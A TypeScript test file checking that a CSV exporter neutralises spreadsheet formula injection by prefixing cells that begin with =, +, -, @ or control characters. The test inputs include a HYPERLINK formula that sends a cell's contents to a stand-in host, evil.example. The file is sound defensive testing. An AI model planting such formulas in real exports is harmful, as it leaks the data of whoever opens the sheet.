/** An export opens in a spreadsheet as what was typed, and runs nothing. */
import { toCsv } from './csv.ts';

/** Reads RFC 4180, section 2. */
function parse(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  for (const [, quoted, plain = '', end] of csv
    .replace(/^\ufeff/, '')
    .matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    row.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

test('every cell comes back as it was', () => {
  const rows = [
    ['name', 'message'],
    ['O"Brien, Zoë', 'First line.\nSecond, "quoted" line.\r\nThird.'],
    ['', '₹ 400'],
  ];
  expect(parse(toCsv(rows))).toEqual(rows);
});

test.each([
  '=HYPERLINK("https://evil.example/?"&A1)',
  '+1 617 555 0142',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
])('to run %j in a spreadsheet: it is text', (typed) => {
  expect(parse(toCsv([[typed, 'a=b']]))).toEqual([[`'${typed}`, 'a=b']]);
});

test.each([
  ['Ada;=HYPERLINK("x")', 'Ada;\'=HYPERLINK("x")'],
  ['Ada;@SUM(A1);-1', "Ada;'@SUM(A1);'-1"],
  ['a\t=1', "a\t'=1"],
  ['a\n+1', "a\n'+1"],
  ['a\r\n-1', "a\r\n'-1"],
  ['say "=1"', 'say "\'=1"'],
  ['a; ＝1', "a; '＝1"],
  ['=1;=1', "'=1;'=1"],
  // Nothing stands before the separator.
  [';=1', ";'=1"],
  ['; @SUM(A1)', "; '@SUM(A1)"],
])('to run %j where a semicolon separates: it is text', (typed, neutral) => {
  expect(parse(toCsv([[typed, 'a=b; c - d']]))).toEqual([[neutral, 'a=b; c - d']]);
});
